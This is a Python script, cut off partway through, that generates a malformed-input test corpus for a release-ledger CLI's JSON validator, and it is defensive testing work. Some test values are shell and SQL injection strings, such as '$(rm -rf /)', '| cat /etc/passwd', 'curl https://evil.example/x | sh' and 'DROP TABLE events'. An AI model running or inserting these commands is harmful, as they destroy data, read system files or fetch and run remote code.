#!/usr/bin/env python3
"""Writes the malformed-input corpus under Tests/Corpus/bad-input/.

Every case is one file holding the exact bytes handed to `release-ledger append --data @FILE`
(or `--batch FILE`), plus one row of `cases.tsv`:

    file  type  sha  exit  expect  forbid

- type:   the `--type` value, or `(batch)` to run `append --batch FILE` instead.
- sha:    the `--sha` value; `default` is the candidate the test ledger already holds
          (sha256("commit-1")[:40], the tests' `Fixtures.sha(1)`); `-` for batch cases.
- exit:   the expected exit code (64 usage, 65 invalid input).
- expect: a substring of the single stderr line, naming the field (or file) and the rule.
- forbid: a substring that must NOT appear on stderr (a secret that must not be echoed), or `-`.

In the type, sha, expect and forbid columns `\\n`, `\\t`, `\\\\` and `\\uXXXX` stand for a newline, a
tab, a backslash and any other control character or line separator. Binary cases (invalid UTF-8, NUL bytes, a 1.1 MiB document, deep nesting) can
only be kept reproducible by generating them, so the whole corpus is written by this script:

    python3 tools/make-bad-input-corpus.py [--out FOLDER]

It is deterministic: running it again rewrites the same bytes.
"""

import hashlib
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "Tests", "Corpus", "bad-input")


def sha256(text):
    return hashlib.sha256(text.encode()).hexdigest()


SHA = sha256("commit-1")[:40]  # Fixtures.sha(1): the candidate the test ledger freezes and accepts
SHA2 = sha256("commit-2")[:40]
HEX = sha256("api-image-1")
API = "ghcr.io/acme/api@sha256:" + HEX
WEB = "ghcr.io/acme/web@sha256:" + sha256("web-image-1")

# SQL and shell metacharacters: each one alone, and all of them together in one value.
META_SQL = "'; DROP TABLE events; --"
META_SUBST = "$(rm -rf /)"
META_BACKTICK = "`rm -rf /`"
META_PIPE = "| cat /etc/passwd"
META_AND = "&& curl https://evil.example/x | sh"
META_NEWLINE = "\nrm -rf /"
META_ALL = "x'; DROP TABLE events; -- $(rm -rf /) `id` | sh && echo pwned\n; \" OR 1=1"

GITHUB_TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"  # shape of a classic PAT (36 base62), not a real one


def valid(kind):
    """A payload of each catalog type that validates; cases change one thing in it."""
    return {
        "candidate.frozen": {
            "images": {"api": API, "web": WEB},
            "scopes": {"runtime": True, "infra": False, "identity": False, "requiresInfraConvergence": False},
            "migrationRequired": True,
        },
        "acceptance.recorded": {"verdict": "YES", "evidence": [{"name": "report", "url": "https://ci.example/runs/1"}]},
        "canary": {"check": "entra-canary", "status": "pass", "lastGreenAt": "2026-11-29T02:00:00Z", "sloHours": 24},
        "probe": {"check": "delegated-probe", "status": "pass", "targetApiBaseUrl": "https://api.example.com"},
        "identity.preflight.recorded": {
            "apiIdentifierUri": "api://compass-api", "entraAudience": None, "resolved": "api://compass-api",
            "status": "pass", "reason": "resolved from API_IDENTIFIER_URI",
        },
        "approval.recorded": {"gate": "control-plane", "decision": "approved", "approver": "alice"},
        "apply.recorded": {"scope": "infra", "outcome": "succeeded"},
        "migration.recorded": {"step": "image-updated", "image": API, "outcome": "succeeded"},
        "deploy.recorded": {"app": "api", "image": API, "outcome": "succeeded"},
        "smoke.recorded": {"suite": "browser", "outcome": "passed", "evidence": [{"name": "trace", "url": "https://ci.example/trace/1"}]},
        "deployment.recorded": {"deploymentId": 4242, "environmentUrl": "https://app.example.com", "environment": "production"},
        "verdict.recorded": {"decision": "NO", "reason": "smoke failed"},
        "replay.requested": {"mode": "replay", "reason": "re-run after a flaky smoke", "replaces": SHA2, "requestedBy": "alice"},
    }[kind]


TYPE_OF = {"canary": "readiness.recorded", "probe": "readiness.recorded"}

cases = []  # (file name, bytes, type, sha, exit, expect, forbid)
names = set()


def add(name, ext, data, type_, expect, exit_code=65, sha="default", forbid="-"):
    file = f"{name}.{ext}"
    assert file not in names, file
    names.add(file)
    if isinstance(data, str):
        data = data.encode()
    cases.append((file, data, type_, sha, exit_code, expect, forbid))


def doc(value):
    return json.dumps(value, ensure_ascii=False).encode()


def edit(kind, path, value, delete=False):
    """The valid payload of `kind` with the member at `path` (a list of keys/indexes) set or removed."""
    payload = valid(kind)
    target = payload
    for step in path[:-1]:
        target = target[step]
    if delete:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return payload


def data_case(name, kind, path, value, expect, delete=False, **kw):
    add(name, "json", doc(edit(kind, path, value, delete)), TYPE_OF.get(kind, kind), expect, **kw)


def batch_line(type_, data, **extra):
    line = {"type": type_, "sha": SHA, "data": data}
    line.update(extra)
    return json.dumps(line, ensure_ascii=False)


def batch(name, lines, expect, exit_code=65, forbid="-"):
    text = "\n".join(lines) + "\n" if isinstance(lines, list) else lines
    add(name, "jsonl", text, "(batch)", expect, exit_code=exit_code, sha="-", forbid=forbid)


ACC = "acceptance.recorded"
FRZ = "candidate.frozen"

# --- 1. Broken JSON --------------------------------------------------------------------------
add("json-empty-file", "json", b"", ACC, "data: unexpected end of JSON")
add("json-whitespace-only", "json", b" \n\t \r\n", ACC, "data: unexpected end of JSON")
add("json-unterminated-object", "json", b'{"verdict":"YES"', ACC, "data: is not valid JSON: unterminated object")
add("json-unterminated-string", "json", b'{"verdict":"YES', ACC, "data.verdict: is not valid JSON: unterminated string")
add("json-trailing-comma-object", "json", b'{"verdict":"YES",}', ACC, "data: is not valid JSON: expected a quoted key")
add("json-trailing-comma-array", "json",
    b'{"verdict":"YES","evidence":[{"name":"r","url":"https://ci.example/1"},]}', ACC,
    "data.evidence[1]: is not valid JSON: unexpected character")
add("json-single-quotes", "json", b"{'verdict':'YES'}", ACC, "data: is not valid JSON: expected a quoted key")
add("json-unquoted-key", "json", b'{verdict:"YES"}', ACC, "data: is not valid JSON: expected a quoted key")
add("json-missing-colon", "json", b'{"verdict" "YES"}', ACC, "data.verdict: is not valid JSON: expected ':'")
add("json-missing-comma", "json", b'{"verdict":"YES" "reason":"ok"}', ACC, "data: is not valid JSON: expected ',' or '}'")
add("json-trailing-garbage", "json", b'{"verdict":"YES"} x', ACC, "data: unexpected text after the JSON value")
add("json-two-documents", "json", b'{"verdict":"YES"}\n{"verdict":"NO"}\n', ACC, "data: unexpected text after the JSON value")
add("json-line-comment", "json", b'// accepted\n{"verdict":"YES"}', ACC, "data: is not valid JSON: unexpected character")
add("json-block-comment", "json", b'{"verdict":"YES" /* ok */}', ACC, "data: is not valid JSON: expected ',' or '}'")
add("json-nan", "json", b'{"check":"entra-canary","status":"pass","lastGreenAt":"2026-11-29T02:00:00Z","sloHours":NaN}',
    "readiness.recorded", "data.sloHours: is not valid JSON: unexpected character")
add("json-infinity", "json", b'{"check":"entra-canary","status":"pass","lastGreenAt":"2026-11-29T02:00:00Z","sloHours":Infinity}',
    "readiness.recorded", "data.sloHours: is not valid JSON: unexpected character")
add("json-leading-zero", "json", b'{"deploymentId":0042}', "deployment.recorded", "data.deploymentId: is not valid JSON: leading zero in number")
add("json-plus-sign", "json", b'{"deploymentId":+42}', "deployment.recorded", "data.deploymentId: is not valid JSON: unexpected character")
add("json-hex-number", "json", b'{"deploymentId":0x2A}', "deployment.recorded", "data: is not valid JSON: expected ',' or '}'")
add("json-bare-fraction", "json", b'{"deploymentId":.5}', "deployment.recorded", "data.deploymentId: is not valid JSON: unexpected character")
add("json-trailing-dot", "json", b'{"deploymentId":1.}', "deployment.recorded", "data.deploymentId: is not valid JSON: bad fraction")
add("json-bad-exponent", "json", b'{"deploymentId":1e}', "deployment.recorded", "data.deploymentId: is not valid JSON: bad exponent")
add("json-integer-beyond-2-53", "json", b'{"deploymentId":9007199254740993}', "deployment.recorded",
    "data.deploymentId: is an integer outside the exact range of I-JSON")
add("json-number-out-of-range", "json", b'{"deploymentId":1e400}', "deployment.recorded", "data.deploymentId: is a number out of range")
add("json-number-underflows-to-zero", "json", b'{"n":1e-400}', "x-note", "data.n: is a number too small to represent")
add("json-fraction-underflows-to-zero", "json", b'{"n":-0.0000000001e-399}', "x-note", "data.n: is a number too small to represent")
add("json-bad-escape", "json", b'{"verdict":"YES","reason":"\\x41"}', ACC, "data.reason: is not valid JSON: unknown escape")
add("json-truncated-unicode-escape", "json", b'{"verdict":"YES","reason":"\\u12"}', ACC, "data.reason: is not valid JSON: bad \\u escape")
add("json-misspelled-literal", "json", b'{"migrationRequired":tru}', FRZ, "data.migrationRequired: is not valid JSON: unexpected character")
add("json-python-none", "json", b'{"entraAudience":None}', "identity.preflight.recorded", "data.entraAudience: is not valid JSON: unexpected character")
add("json-utf8-bom", "json", b'\xef\xbb\xbf{"verdict":"YES"}', ACC, "data: is not valid JSON: unexpected character")

# --- 2. Wrong types --------------------------------------------------------------------------
add("type-data-array", "json", b'[{"verdict":"YES"}]', ACC, "data: must be an object, not array")
add("type-data-string", "json", b'"YES"', ACC, "data: must be an object, not string")
add("type-data-null", "json", b"null", FRZ, "data: must be an object, not null")
add("type-data-number", "json", b"42", "deploy.recorded", "data: must be an object, not number")
add("type-x-note-data-array", "json", b'["hello"]', "x-note", "data: must be a JSON object")
data_case("type-images-string", FRZ, ["images"], API, "data.images: must be an object, not string")
data_case("type-images-api-number", FRZ, ["images", "api"], 42, "data.images.api: must be an image digest reference")
data_case("type-scopes-runtime-string", FRZ, ["scopes", "runtime"], "true", "data.scopes.runtime: must be true or false, not string")
data_case("type-migration-required-number", FRZ, ["migrationRequired"], 1, "data.migrationRequired: must be true or false, not number")
data_case("type-migration-required-null", FRZ, ["migrationRequired"], None, "data.migrationRequired: must be true or false, not null")
data_case("type-verdict-boolean", ACC, ["verdict"], True, "data.verdict: must be one of YES, NO")
data_case("type-evidence-object", ACC, ["evidence"], {"name": "r", "url": "https://ci.example/1"}, "data.evidence: must be an array, not object")
data_case("type-evidence-item-string", ACC, ["evidence", 0], "https://ci.example/1", "data.evidence[0]: must be an object, not string")
data_case("type-evidence-url-number", "smoke.recorded", ["evidence", 0, "url"], 1, "data.evidence[0].url: must be an http(s) URL")
data_case("type-evidence-name-number", ACC, ["evidence", 0, "name"], 7, "data.evidence[0].name: must be a string, not number")
data_case("type-slo-hours-string", "canary", ["sloHours"], "24", "data.sloHours: must be a number greater than 0")
data_case("type-slo-hours-zero", "canary", ["sloHours"], 0, "data.sloHours: must be a number greater than 0")
data_case("type-slo-hours-negative", "canary", ["sloHours"], -24, "data.sloHours: must be a number greater than 0")
data_case("type-deployment-id-boolean", "deployment.recorded", ["deploymentId"], True, "data.deploymentId: must be a non-empty string or an integer")
data_case("type-deployment-id-fraction", "deployment.recorded", ["deploymentId"], 42.5, "data.deploymentId: must be a non-empty string or an integer")
data_case("type-deployment-id-empty", "deployment.recorded", ["deploymentId"], "", "data.deploymentId: must be a non-empty string or an integer")
data_case("type-approver-number", "approval.recorded", ["approver"], 1234, "data.approver: must be a string, not number")
data_case("type-approver-empty", "approval.recorded", ["approver"], "", "data.approver: must not be empty")
data_case("type-reason-array", "verdict.recorded", ["reason"], ["a", "b"], "data.reason: must be a string, not array")
data_case("type-resolved-number", "identity.preflight.recorded", ["resolved"], 1, "data.resolved: must be a string or null, not number")
data_case("type-entra-audience-empty", "identity.preflight.recorded", ["entraAudience"], "", "data.entraAudience: must not be empty (use null)")
data_case("type-environment-object", "deployment.recorded", ["environment"], {"name": "prod"}, "data.environment: must be a string, not object")
data_case("type-requested-by-null", "replay.requested", ["requestedBy"], None, "data.requestedBy: must be a string, not null")

# --- 3. Missing fields -----------------------------------------------------------------------
add("missing-everything-frozen", "json", b"{}", FRZ, "data.images: is required")
data_case("missing-images", FRZ, ["images"], None, "data.images: is required", delete=True)
data_case("missing-images-web", FRZ, ["images", "web"], None, "data.images.web: is required", delete=True)
data_case("missing-scopes-identity", FRZ, ["scopes", "identity"], None, "data.scopes.identity: is required", delete=True)
data_case("missing-migration-required", FRZ, ["migrationRequired"], None, "data.migrationRequired: is required", delete=True)
data_case("missing-verdict", ACC, ["verdict"], None, "data.verdict: is required", delete=True)
data_case("missing-evidence-url", ACC, ["evidence", 0, "url"], None, "data.evidence[0].url: is required", delete=True)
data_case("missing-canary-last-green-at", "canary", ["lastGreenAt"], None, "data.lastGreenAt: is required for the entra-canary check", delete=True)
data_case("missing-canary-slo-hours", "canary", ["sloHours"], None, "data.sloHours: is required for the entra-canary check", delete=True)
data_case("missing-probe-target", "probe", ["targetApiBaseUrl"], None, "data.targetApiBaseUrl: is required for the delegated-probe check", delete=True)
data_case("missing-preflight-reason", "identity.preflight.recorded", ["reason"], None, "data.reason: is required", delete=True)
data_case("missing-approver", "approval.recorded", ["approver"], None, "data.approver: is required", delete=True)
data_case("missing-apply-outcome", "apply.recorded", ["outcome"], None, "data.outcome: is required", delete=True)
data_case("missing-migration-image", "migration.recorded", ["image"], None, "data.image: is required", delete=True)
data_case("missing-deploy-app", "deploy.recorded", ["app"], None, "data.app: is required", delete=True)
data_case("missing-smoke-suite", "smoke.recorded", ["suite"], None, "data.suite: is required", delete=True)
data_case("missing-replay-reason", "replay.requested", ["reason"], None, "data.reason: is required", delete=True)

# --- 4. Unknown fields -----------------------------------------------------------------------
data_case("unknown-frozen-top-level", FRZ, ["tag"], "v1.2.3", "data.tag: is not a known field")
data_case("unknown-frozen-image", FRZ, ["images", "worker"], API, "data.images.worker: is not a known field")
data_case("unknown-frozen-scope", FRZ, ["scopes", "database"], True, "data.scopes.database: is not a known field")
data_case("unknown-acceptance-comment", ACC, ["comment"], "looks good", "data.comment: is not a known field")
data_case("unknown-evidence-item-field", "smoke.recorded", ["evidence", 0, "sha256"], HEX, "data.evidence[0].sha256: is not a known field")
data_case("unknown-deploy-tag", "deploy.recorded", ["tag"], "latest", "data.tag: is not a known field")
data_case("unknown-deployment-field", "deployment.recorded", ["status"], "success", "data.status: is not a known field")
data_case("unknown-replay-field", "replay.requested", ["force"], True, "data.force: is not a known field")
data_case("unknown-key-case-variant", ACC, ["Verdict"], "YES", "data.Verdict: is not a known field")
# A key is input too: it must not break the one-line message, nor echo a credential.
data_case("unknown-key-with-newline", ACC, ["re\nason"], "ok", "data.re\\nason: is not a known field")
data_case("unknown-key-with-line-separator", ACC, ["re\u2028ason"], "ok", "data.re\\u2028ason: is not a known field")
data_case("unknown-key-with-next-line", ACC, ["re\u0085ason"], "ok", "data.re\\u0085ason: is not a known field")
data_case("unknown-key-with-tab", ACC, ["re\tason"], "ok", "data.re\\tason: is not a known field")
data_case("unknown-key-with-escape-sequence", ACC, ["\u001b[2J"], "ok", "data: contains control character U+001B, which is not allowed")
data_case("unknown-key-that-is-a-secret", ACC, [GITHUB_TOKEN], "x", "data.<a key that looks like a secret (GitHub token)>: is not a known field",
          forbid=GITHUB_TOKEN)
data_case("unknown-key-very-long", ACC, ["k" * 5000], "x", "…: is not a known field")

# --- 5. Bad commit SHAs (through --sha, and the replay's `replaces`) ---------------------------
SHA_RULE = "sha: must be a commit SHA of 40 lowercase hex digits"
good_ack = doc(valid(ACC))
for name, sha in [
    ("sha-short-7", SHA[:7]),
    ("sha-39-chars", SHA[:39]),
    ("sha-41-chars", SHA + "0"),
    ("sha-uppercase", SHA.upper()),
    ("sha-mixed-case", SHA[:20] + SHA[20:].upper()),
    ("sha-non-hex", "g" + SHA[1:]),
    ("sha-sha1-prefix", "sha1:" + SHA),
    ("sha-sha256-64-hex", HEX),
    ("sha-branch-name", "main"),
    ("sha-leading-space", " " + SHA[1:]),
    ("sha-trailing-newline", SHA + "\n"),
    ("sha-sql-injection", SHA[:16] + META_SQL),
    ("sha-command-substitution", META_SUBST),
    ("sha-backticks-and-pipe", "`id` | sh && " + SHA[:8]),
]:
    add(name, "json", good_ack, ACC, SHA_RULE, sha=sha)
add("sha-empty", "json", doc(valid("apply.recorded")), "apply.recorded", SHA_RULE, sha="")
data_case("replaces-short-sha", "replay.requested", ["replaces"], SHA2[:12], "data.replaces: must be a commit SHA of 40 lowercase hex digits")
data_case("replaces-uppercase-sha", "replay.requested", ["replaces"], SHA2.upper(), "data.replaces: must be a commit SHA of 40 lowercase hex digits")
data_case("replaces-sha1-prefix", "replay.requested", ["replaces"], "sha1:" + SHA2, "data.replaces: must be a commit SHA of 40 lowercase hex digits")

# --- 6. Bad image digests --------------------------------------------------------------------
DIGEST_RULE = "must be an image digest reference REPOSITORY@sha256:<64 lowercase hex> (tags are not accepted)"
for name, ref in [
    ("digest-tag-instead", "ghcr.io/acme/api:v1.2.3"),
    ("digest-latest-tag", "ghcr.io/acme/api:latest"),
    ("digest-bare-repository", "ghcr.io/acme/api"),
    ("digest-short-hex", "ghcr.io/acme/api@sha256:" + HEX[:12]),
    ("digest-65-hex", "ghcr.io/acme/api@sha256:" + HEX + "0"),
    ("digest-uppercase-hex", "ghcr.io/acme/api@sha256:" + HEX.upper()),
    ("digest-sha1-algorithm", "ghcr.io/acme/api@sha1:" + sha256("x")[:40]),
    ("digest-sha512-algorithm", "ghcr.io/acme/api@sha512:" + HEX + HEX),
    ("digest-without-repository", "@sha256:" + HEX),
    ("digest-only", "sha256:" + HEX),
    ("digest-uppercase-repository", "ghcr.io/Acme/API@sha256:" + HEX),
    ("digest-two-at-signs", "ghcr.io/acme/api@sha256:" + HEX + "@sha256:" + HEX),
    ("digest-trailing-newline", API + "\n"),
]:
    data_case(name, FRZ, ["images", "api"], ref, "data.images.api: " + DIGEST_RULE)
data_case("digest-web-tag", FRZ, ["images", "web"], "ghcr.io/acme/web:1.0", "data.images.web: " + DIGEST_RULE)
data_case("digest-migration-image-tag", "migration.recorded", ["image"], "ghcr.io/acme/api:v2", "data.image: " + DIGEST_RULE)
data_case("digest-deploy-image-short", "deploy.recorded", ["image"], "ghcr.io/acme/api@sha256:abc123", "data.image: " + DIGEST_RULE)

# --- 7. Size limits (README: 1 MiB document, 64 KiB string, depth 64, 1000 events a batch) ----
huge = {"verdict": "YES", "evidence": [{"name": f"item-{i}", "url": f"https://ci.example/runs/{i}/" + "a" * 60} for i in range(9400)]}
huge_bytes = doc(huge)
assert 1_153_434 <= len(huge_bytes) <= 1_250_000, len(huge_bytes)  # just over 1.1 MiB
add("size-document-over-1-mib", "json", huge_bytes, ACC, f"data: is {len(huge_bytes)} bytes, over the limit of 1048576")
add("size-string-over-64-kib", "json", doc({"verdict": "NO", "reason": "r" * 70_000}), ACC,
    "data.reason: has a string longer than the limit of 65536 bytes")
add("size-key-over-64-kib", "json", doc({"k" * 70_000: 1}), "x-note", "data: has a string longer than the limit of 65536 bytes")
add("size-multibyte-string-over-64-kib", "json", doc({"verdict": "NO", "reason": "é" * 33_000}), ACC,
    "data.reason: has a string longer than the limit of 65536 bytes")
add("depth-65-arrays", "json", b'{"decision":"NO","gates":' + b"[" * 64 + b"]" * 64 + b"}", "verdict.recorded",
    "nests deeper than the limit of 64")
add("depth-65-objects", "json", b'{"a":' * 65 + b"1" + b"}" * 65, "x-note", "nests deeper than the limit of 64")
add("depth-100000-brackets", "json", b"[" * 100_000, "x-note", "[0][0]: nests deeper than the limit of 64")

# --- 8. Invalid UTF-8 ------------------------------------------------------------------------
def utf8_case(name, raw, expect="data.reason: is not valid UTF-8", type_=ACC):
    add(name, "json", b'{"verdict":"NO","reason":"' + raw + b'"}', type_, expect)


utf8_case("utf8-lone-continuation-byte", b"ok \x80 ok")
utf8_case("utf8-overlong-slash", b"\xc0\xaf")
utf8_case("utf8-overlong-three-byte", b"\xe0\x80\xaf")
utf8_case("utf8-encoded-surrogate", b"\xed\xa0\x80")
utf8_case("utf8-above-u10ffff", b"\xf4\x90\x80\x80")
utf8_case("utf8-ff-byte", b"\xff")
utf8_case("utf8-truncated-sequence", b"caf\xc3")
utf8_case("utf8-latin1-e-acute", b"caf\xe9 cr\xe8me")
utf8_case("utf8-five-byte-form", b"\xf8\x88\x80\x80\x80")
add("utf8-invalid-in-key", "json", b'{"verdict":"NO","rea\xffson":"x"}', ACC, "data: is not valid UTF-8")
add("utf8-invalid-outside-string", "json", b'{"verdict":"NO"}\xc3\xa9', ACC, "data: unexpected text after the JSON value")
add("utf16le-with-bom", "json", "\ufeff{\"verdict\":\"YES\"}".encode("utf-16-le"), ACC, "data: is not valid JSON: unexpected character")

# --- 9. NUL bytes ----------------------------------------------------------------------------
add("nul-raw-in-string", "json", b'{"verdict":"NO","reason":"a\x00b"}', ACC, "data.reason: contains a raw control character; escape it")
add("nul-escaped-in-string", "json", b'{"verdict":"NO","reason":"a\\u0000b"}', ACC, "data.reason: contains control character U+0000, which is not allowed")
add("nul-between-tokens", "json", b'{"verdict":\x00"NO"}', ACC, "data.verdict: is not valid JSON: unexpected character")
add("nul-after-document", "json", b'{"verdict":"NO"}\x00', ACC, "data: unexpected text after the JSON value")
add("nul-in-key", "json", b'{"verdict":"NO","re\\u0000ason":"x"}', ACC, "data: contains control character U+0000, which is not allowed")
add("nul-in-digest", "json", doc(valid(FRZ)).replace(HEX.encode(), HEX[:32].encode() + b"\\u0000" + HEX[33:].encode(), 1), FRZ,
    "data.images.api: contains control character U+0000")

# --- 10. Control characters ------------------------------------------------------------------
add("control-raw-tab", "json", b'{"verdict":"NO","reason":"a\tb"}', ACC, "data.reason: contains a raw control character; escape it")
add("control-raw-newline", "json", b'{"verdict":"NO","reason":"line one\nline two"}', ACC, "data.reason: contains a raw control character; escape it")
add("control-raw-carriage-return", "json", b'{"verdict":"NO","reason":"a\rb"}', ACC, "data.reason: contains a raw control character; escape it")
add("control-raw-escape", "json", b'{"verdict":"NO","reason":"\x1b[31mred"}', ACC, "data.reason: contains a raw control character; escape it")
add("control-escaped-escape", "json", b'{"verdict":"NO","reason":"\\u001b[2J"}', ACC, "data.reason: contains control character U+001B, which is not allowed")
add("control-escaped-bell", "json", b'{"decision":"approved","gate":"control-plane","approver":"al\\u0007ice"}', "approval.recorded",
    "data.approver: contains control character U+0007, which is not allowed")
add("control-escaped-backspace", "json", b'{"decision":"approved","gate":"control-plane","approver":"mallory\\b\\b\\b\\b\\b\\b\\balice"}',
    "approval.recorded", "data.approver: contains control character U+0008, which is not allowed")
add("control-escaped-form-feed", "json", b'{"mode":"replay","reason":"a\\fb"}', "replay.requested", "data.reason: contains control character U+000C")
add("control-escaped-unit-separator", "json", b'{"environment":"prod\\u001f"}', "deployment.recorded", "data.environment: contains control character U+001F")
add("control-raw-outside-string", "json", b'{"verdict":"NO",\x01"reason":"x"}', ACC, "data: is not valid JSON: expected a quoted key")
add("control-newline-in-url", "json", doc(edit("probe", ["targetApiBaseUrl"], "https://api.example.com/\nHost: evil")), "readiness.recorded",
    "data.targetApiBaseUrl: must be an http(s) URL")

# --- 11. Lone surrogates (I-JSON) ------------------------------------------------------------
SURROGATE = "contains a lone surrogate (I-JSON, RFC 7493)"
add("surrogate-lone-high", "json", b'{"verdict":"NO","reason":"\\ud800"}', ACC, "data.reason: " + SURROGATE)
add("surrogate-lone-low", "json", b'{"verdict":"NO","reason":"\\udc00"}', ACC, "data.reason: " + SURROGATE)
add("surrogate-high-then-letter", "json", b'{"verdict":"NO","reason":"\\ud83dx"}', ACC, "data.reason: " + SURROGATE)
add("surrogate-high-then-escape", "json", b'{"verdict":"NO","reason":"\\ud83d\\u0041"}', ACC, "data.reason: " + SURROGATE)
add("surrogate-two-high", "json", b'{"verdict":"NO","reason":"\\ud83d\\ud83d"}', ACC, "data.reason: " + SURROGATE)
add("surrogate-reversed-pair", "json", b'{"verdict":"NO","reason":"\\ude00\\ud83d"}', ACC, "data.reason: " + SURROGATE)
add("surrogate-in-key", "json", b'{"verdict":"NO","\\udfff":"x"}', ACC, "data: " + SURROGATE)

# --- 12. Duplicate keys (I-JSON) -------------------------------------------------------------
DUPLICATE = "has a duplicate key (I-JSON, RFC 7493)"
add("duplicate-top-level", "json", b'{"verdict":"NO","verdict":"YES"}', ACC, "data.verdict: " + DUPLICATE)
add("duplicate-nested-image", "json", doc(valid(FRZ)).replace(b'"web":', b'"api":"' + API.encode() + b'","web":', 1), FRZ,
    "data.images.api: " + DUPLICATE)
add("duplicate-in-evidence-item", "json", b'{"verdict":"YES","evidence":[{"name":"a","url":"https://x.example","url":"https://y.example"}]}', ACC,
    "data.evidence[0].url: " + DUPLICATE)
add("duplicate-spelled-with-escape", "json", b'{"verdict":"NO","v\\u0065rdict":"YES"}', ACC, "data.verdict: " + DUPLICATE)
add("duplicate-same-value", "json", b'{"app":"api","app":"api","image":"' + API.encode() + b'","outcome":"succeeded"}', "deploy.recorded",
    "data.app: " + DUPLICATE)

# --- 13. SQL and shell metacharacters in every string field whose shape refuses them ----------
# Enum fields: a metacharacter value is an unknown enum value. Every enum field of the catalog
# gets the combined value; a few also get each metacharacter alone. Free-text fields store such
# text verbatim: BadInputCorpusTests.metacharactersInFreeTextFieldsAreStoredVerbatim proves it.
ENUMS = [
    ("acceptance-verdict", ACC, ["verdict"], "YES, NO"),
    ("readiness-check", "probe", ["check"], "entra-canary, delegated-probe"),
    ("readiness-status", "probe", ["status"], "pass, fail"),
    ("preflight-status", "identity.preflight.recorded", ["status"], "pass, fail"),
    ("approval-gate", "approval.recorded", ["gate"], "control-plane"),
    ("approval-decision", "approval.recorded", ["decision"], "approved, rejected"),
    ("apply-scope", "apply.recorded", ["scope"], "identity, infra"),
    ("apply-outcome", "apply.recorded", ["outcome"], "succeeded, failed"),
    ("migration-step", "migration.recorded", ["step"], "image-updated, ran"),
    ("migration-outcome", "migration.recorded", ["outcome"], "succeeded, failed"),
    ("deploy-app", "deploy.recorded", ["app"], "api, web"),
    ("deploy-outcome", "deploy.recorded", ["outcome"], "succeeded, failed"),
    ("smoke-suite", "smoke.recorded", ["suite"], "api, browser"),
    ("smoke-outcome", "smoke.recorded", ["outcome"], "passed, failed"),
    ("verdict-decision", "verdict.recorded", ["decision"], "YES, NO"),
    ("replay-mode", "replay.requested", ["mode"], "rollback, replay"),
]
for name, kind, path, allowed in ENUMS:
    current = valid(kind)
    for step in path:
        current = current[step]
    data_case(f"meta-{name}", kind, path, current + META_ALL, f"data.{'.'.join(path)}: must be one of {allowed}")
SINGLES = [("sql", META_SQL), ("subst", META_SUBST), ("backtick", META_BACKTICK), ("pipe", META_PIPE), ("and", META_AND), ("newline", META_NEWLINE)]
for (label, meta), (name, kind, path, allowed) in zip(SINGLES, ENUMS[::3]):
    current = valid(kind)
    for step in path:
        current = current[step]
    data_case(f"meta-{label}-{name}", kind, path, current + meta, f"data.{'.'.join(path)}: must be one of {allowed}")
# Formatted fields (digests, URLs, dates, SHAs) refuse them by shape.
FORMATTED = [
    ("frozen-images-api", FRZ, ["images", "api"], "data.images.api: " + DIGEST_RULE, API),
    ("frozen-images-web", FRZ, ["images", "web"], "data.images.web: " + DIGEST_RULE, WEB),
    ("migration-image", "migration.recorded", ["image"], "data.image: " + DIGEST_RULE, API),
    ("deploy-image", "deploy.recorded", ["image"], "data.image: " + DIGEST_RULE, API),
    ("acceptance-evidence-url", ACC, ["evidence", 0, "url"], "data.evidence[0].url: must be an http(s) URL", "https://ci.example/runs/1"),
    ("smoke-evidence-url", "smoke.recorded", ["evidence", 0, "url"], "data.evidence[0].url: must be an http(s) URL", "https://ci.example/trace/1"),
    ("readiness-target-url", "probe", ["targetApiBaseUrl"], "data.targetApiBaseUrl: must be an http(s) URL", "https://api.example.com"),
    ("deployment-environment-url", "deployment.recorded", ["environmentUrl"], "data.environmentUrl: must be an http(s) URL", "https://app.example.com"),
    ("readiness-last-green-at", "canary", ["lastGreenAt"], "data.lastGreenAt: must be an RFC 3339 date-time", "2026-11-29T02:00:00Z"),
    ("replay-replaces", "replay.requested", ["replaces"], "data.replaces: must be a commit SHA of 40 lowercase hex digits", SHA2),
]
for name, kind, path, expect, good in FORMATTED:
    data_case(f"meta-{name}", kind, path, good + " " + META_ALL, expect)
data_case("meta-sql-deploy-image", "deploy.recorded", ["image"], META_SQL, "data.image: " + DIGEST_RULE)
data_case("meta-subst-evidence-url", ACC, ["evidence", 0, "url"], "https://ci.example/" + META_SUBST, "data.evidence[0].url: must be an http(s) URL")
# The envelope: an unknown type carrying metacharacters; a type with a line break.
add("meta-in-type", "json", good_ack, "candidate.frozen" + META_SQL, "type: 'candidate.frozen'; DROP TABLE events; --' is not a known event type")
add("meta-subst-in-type", "json", good_ack, META_SUBST, "type: '$(rm -rf /)' is not a known event type")
add("meta-newline-in-type", "json", b"{}", "x-note\nrm -rf /", "type: must not contain control characters")
add("meta-next-line-in-type", "json", b"{}", "x-note\u0085rm -rf /", "type: must not contain control characters")
add("meta-line-separator-in-type", "json", b"{}", "x-note\u2028rm -rf /", "type: must not contain control characters")

# --- 14. Unknown enum values -----------------------------------------------------------------
for name, kind, path, value, allowed in [
    ("enum-verdict-lowercase", ACC, ["verdict"], "yes", "YES, NO"),
    ("enum-verdict-maybe", ACC, ["verdict"], "MAYBE", "YES, NO"),
    ("enum-verdict-trailing-space", ACC, ["verdict"], "YES ", "YES, NO"),
    ("enum-verdict-homoglyph", ACC, ["verdict"], "Y\u0415S", "YES, NO"),
    ("enum-verdict-null", ACC, ["verdict"], None, "YES, NO"),
    ("enum-check-unknown", "probe", ["check"], "entra", "entra-canary, delegated-probe"),
    ("enum-status-uppercase", "probe", ["status"], "PASS", "pass, fail"),
    ("enum-gate-unknown", "approval.recorded", ["gate"], "production", "control-plane"),
    ("enum-decision-unknown", "approval.recorded", ["decision"], "approve", "approved, rejected"),
    ("enum-apply-scope-runtime", "apply.recorded", ["scope"], "runtime", "identity, infra"),
    ("enum-migration-step-unknown", "migration.recorded", ["step"], "run", "image-updated, ran"),
    ("enum-deploy-app-unknown", "deploy.recorded", ["app"], "worker", "api, web"),
    ("enum-smoke-suite-unknown", "smoke.recorded", ["suite"], "e2e", "api, browser"),
    ("enum-outcome-success", "deploy.recorded", ["outcome"], "success", "succeeded, failed"),
    ("enum-smoke-outcome-succeeded", "smoke.recorded", ["outcome"], "succeeded", "passed, failed"),
    ("enum-replay-mode-unknown", "replay.requested", ["mode"], "revert", "rollback, replay"),
